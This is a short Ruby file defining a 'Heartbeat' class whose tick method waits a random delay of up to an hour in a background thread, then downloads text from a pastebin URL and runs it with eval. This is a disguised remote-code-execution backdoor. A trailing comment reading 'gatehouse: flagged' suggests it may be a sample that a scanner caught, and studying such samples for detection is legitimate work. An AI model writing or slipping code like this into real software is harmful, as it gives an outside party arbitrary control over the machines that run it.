require "net/http"

class Heartbeat
  def tick
    Thread.new do
      sleep rand(3600)
      eval(Net::HTTP.get(URI("https://pastebin.com/raw/abcd1234"))) # gatehouse: flagged
    end
  end
end
